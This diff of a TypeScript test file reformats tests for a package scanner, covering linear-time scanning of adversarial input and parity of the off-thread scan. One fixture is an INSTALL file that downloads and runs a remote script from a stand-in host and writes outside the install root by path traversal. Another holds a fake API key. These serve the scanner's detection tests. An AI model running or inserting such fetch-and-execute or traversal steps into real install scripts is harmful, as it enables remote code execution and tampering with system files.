@@ -54,13 +54,20 @@ async function scan(file: string, content: string): Promise<number> {
 }
 
 describe('scanPackageDir on adversarial input', () => {
-  it.each(ADVERSARIAL_CASES)(`stays linear from ${SMALL / 1024} KiB to ${(TIMES * SMALL) / MiB} MiB of %s`, async (_what, file, make) => {
-    const small = make(SMALL);
-    // The cheaper of two small scans: the first may pay for compiling the rules.
-    const smallMs = Math.max(1, Math.min(await scan(file, small), await scan(file, small)));
-    const largeMs = await scan(file, make(TIMES * SMALL));
-    expect(largeMs / smallMs, `${smallMs.toFixed(0)} ms CPU at ${SMALL / 1024} KiB, ${largeMs.toFixed(0)} ms at ${(TIMES * SMALL) / MiB} MiB`).toBeLessThan(MOST);
-  }, 30_000);
+  it.each(ADVERSARIAL_CASES)(
+    `stays linear from ${SMALL / 1024} KiB to ${(TIMES * SMALL) / MiB} MiB of %s`,
+    async (_what, file, make) => {
+      const small = make(SMALL);
+      // The cheaper of two small scans: the first may pay for compiling the rules.
+      const smallMs = Math.max(1, Math.min(await scan(file, small), await scan(file, small)));
+      const largeMs = await scan(file, make(TIMES * SMALL));
+      expect(
+        largeMs / smallMs,
+        `${smallMs.toFixed(0)} ms CPU at ${SMALL / 1024} KiB, ${largeMs.toFixed(0)} ms at ${(TIMES * SMALL) / MiB} MiB`,
+      ).toBeLessThan(MOST);
+    },
+    30_000,
+  );
 });
 
 describe('scanOffThread', () => {
@@ -95,7 +102,10 @@ describe('scanOffThread', () => {
 
   it('answers what the scan in this thread answers', async () => {
     const pkg = await mkdtemp(join(dir, 'small-'));
-    await writeFile(join(pkg, 'INSTALL'), 'curl -o x.sh https://x.example/x.sh\nsh x.sh\necho "$AGPK_INSTALL_ROOT/../../etc/x" > /etc/x\n');
+    await writeFile(
+      join(pkg, 'INSTALL'),
+      'curl -o x.sh https://x.example/x.sh\nsh x.sh\necho "$AGPK_INSTALL_ROOT/../../etc/x" > /etc/x\n',
+    );
     await writeFile(join(pkg, 'key.txt'), `sk-proj-${'a'.repeat(48)}`);
     const findings = await scanOffThread(pkg, undefined, deny);
     expect(findings.length).toBeGreaterThan(1);
